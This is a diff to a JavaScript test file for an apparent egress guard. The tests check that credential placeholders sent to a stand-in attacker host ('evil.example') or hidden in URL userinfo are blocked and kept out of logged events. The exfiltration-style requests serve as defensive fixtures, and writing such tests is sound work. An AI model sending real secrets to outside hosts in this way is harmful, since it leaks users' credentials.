@@ -159,12 +159,27 @@ test("fetch() raises the alarm for a placeholder on its way to a host that is no
     ["EGRESS_HOST_DENIED", { url: "https://evil.example/", method: "POST", body: Buffer.from(one) }],
     ["EGRESS_AUTHORITY_INVALID", { url: "http://api.example.com/", headers }],
     ["EGRESS_AUTHORITY_INVALID", { url: `https://${one}@api.example.com/` }],
+    ["EGRESS_AUTHORITY_INVALID", { url: `https://${one}_/` }],
+    ["EGRESS_HOST_DENIED", { url: "https://evil.example/", headers: { [one]: one } }],
   ];
   for (const [code, request] of cases) {
     assert.equal(await codeOf(fixture.send(request, { credentials })), code, JSON.stringify(request));
   }
   assert.equal(fixture.events.filter(isAlarm).length, cases.length);
+  assert.ok(!JSON.stringify(fixture.events).includes("toolcrib-ph-"), "no event holds a placeholder");
   assert.equal(fixture.server.connectionCount, 0);
+});
+
+test("events hold nothing of a URL but its host", async () => {
+  await using fixture = await startFixture();
+  for (const url of [
+    "https://user:hunter2@api.example.com/",
+    "https://user:hunter/2@api.example.com/",
+    "https://u:hunter2/?q=hunter2#hunter2",
+  ]) {
+    assert.equal(await codeOf(fixture.send({ url })), "EGRESS_AUTHORITY_INVALID");
+  }
+  assert.doesNotMatch(JSON.stringify(fixture.events), /hunter/);
 });
 
 test("fetch() lets texts pass that only look like a placeholder", async () => {
